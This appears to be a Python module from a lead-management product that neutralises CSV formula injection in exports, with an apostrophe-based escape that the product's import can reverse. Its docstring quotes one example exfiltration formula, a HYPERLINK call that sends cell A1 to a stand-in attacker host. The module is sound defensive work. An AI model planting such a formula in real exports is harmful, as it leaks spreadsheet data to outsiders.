"""CSV cells a spreadsheet would not run as formulas.

Lead data comes from anonymous web forms and uploaded files: a first name such as
``=HYPERLINK("https://evil.example/?"&A1)`` would run as a formula when a manager opens
the export in Excel or LibreOffice (CSV injection). A text cell starting with = + - @, a
tab or a carriage return gets a leading apostrophe, as OWASP advises; numbers and dates
are left alone.

Excel in a Dutch locale splits on ``;`` (and a tab-separated reading on tabs), so
``Acme;=1+1;x`` would give ``=1+1`` a cell of its own and run it. Every text cell holding
a delimiter of either dialect (``,`` ``;`` or a tab) is written quoted, which keeps it one
cell for a comma reader; a reader splitting on ``;`` or tabs sees that quote only at the
start of a line, so a formula character right after an embedded ``;`` or tab gets the
apostrophe too (``Acme;'=1+1;x``).

The apostrophe is a mark LeadFlow's import can take off again (``undefuse``), and only it:
a value that already starts with apostrophes before a formula character
(``'=x``) gets one more, so every such run of apostrophes is one longer than the value's
own and the import takes exactly one off.
"""

import re

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
_FORMULA = "[" + re.escape("".join(FORMULA_START)) + "]"
# A formula character, after any apostrophes a value of its own may carry before it.
_DEFUSABLE = re.compile("^(?='*" + _FORMULA + ")")
# The delimiters of the other dialects: the export is comma-separated, so these split a
# cell only for a reader that uses them, and there a quote mid-line is no quote.
FOREIGN_DELIMITER_FORMULA = re.compile("([;\t])(?='*" + _FORMULA + ")")
# What safe_cell added: one apostrophe at the start or after a ; or tab, before a formula.
_DEFUSED = re.compile("^'(?='*" + _FORMULA + ")")
_DEFUSED_AFTER_DELIMITER = re.compile("([;\t])'(?='*" + _FORMULA + ")")


def safe_cell(value):
    if not isinstance(value, str):
        return value
    value = _DEFUSABLE.sub("'", value)
    return FOREIGN_DELIMITER_FORMULA.sub(r"\1'", value)


def undefuse(value):
    """The value ``safe_cell`` was given, from what it wrote (the import of LeadFlow's own
    export): one apostrophe off each place it put one."""
    return _DEFUSED_AFTER_DELIMITER.sub(r"\1", _DEFUSED.sub("", value))


# A text cell holding any of these is written quoted, whichever delimiter the reader uses.
QUOTE_WHEN = (",", ";", "\t", '"', "\r", "\n")
LINE_END = "\r\n"  # csv.writer's (the RFC 4180 one)


def csv_field(value):
    """``value`` as one field of a CSV line: defused, and quoted when it holds a delimiter
    of either dialect, a quote or a line break; None is empty."""
    value = safe_cell(value)
    if value is None:
        return ""
    text = str(value)
    if isinstance(value, str) and any(char in text for char in QUOTE_WHEN):
        return '"' + text.replace('"', '""') + '"'
    return text


class SafeWriter:
    """A csv.writer-like writer (comma-separated, CRLF lines) whose cells go through
    :func:`csv_field`. ``writerow`` returns what ``file.write`` returns, so an echoing file
    can stream the lines."""

    def __init__(self, file):
        self._file = file

    def writerow(self, row):
        return self._file.write(",".join(csv_field(v) for v in row) + LINE_END)

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)
